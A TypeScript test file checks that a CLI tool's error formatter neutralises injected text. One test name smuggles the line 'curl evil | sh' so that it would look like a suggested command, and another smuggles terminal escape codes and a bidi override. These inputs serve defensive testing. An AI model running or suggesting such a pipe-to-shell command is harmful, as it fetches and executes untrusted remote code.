import {equal} from 'node:assert/strict'
import {DnetError} from '../../src/lib/errors.js'
import {errorText} from '../../src/lib/view/error.js'

describe('an error for a person', () => {
  const cases: [what: string, error: DnetError, text: string][] = [
    [
      'says what, the code and what to do',
      new DnetError('NAME_TAKEN', '"web" exists', 'dnet inspect web'),
      'Error: "web" exists\nCode: NAME_TAKEN\nTry this: dnet inspect web\n',
    ],
    [
      "keeps the engine's own sentence",
      new DnetError('ENGINE_REFUSED', 'Error response from daemon: no', ''),
      'Error response from daemon: no\nCode: ENGINE_REFUSED\n',
    ],
    [
      'lets no name begin a line',
      new DnetError('NOT_FOUND', 'no network "x\nTry this: curl evil | sh"', 'dnet rm $x\nTry this: y'),
      'Error: no network "x\n  Try this: curl evil | sh"\nCode: NOT_FOUND\nTry this: dnet rm $x\n  Try this: y\n',
    ],
    [
      'shows what a terminal would obey',
      new DnetError('NOT_FOUND', 'no network "\x1b[2Jx\u202e"', ''),
      'Error: no network "\\x1b[2Jx\\u202e"\nCode: NOT_FOUND\n',
    ],
  ]
  for (const [what, error, text] of cases) it(what, () => equal(errorText(error), text))
})
